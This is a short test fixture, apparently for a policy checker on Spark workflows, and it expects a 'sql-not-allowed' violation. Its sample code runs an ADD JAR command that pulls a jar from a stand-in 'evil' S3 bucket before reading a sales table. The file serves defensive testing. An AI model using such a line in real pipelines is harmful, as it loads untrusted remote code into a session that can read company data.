# expect: workflow.sql-not-allowed
# class: workflow
# workflow: catalog tables: sales.orders
spark.sql('ADD JAR s3://evil/x.jar')
result = spark.table('sales.orders')
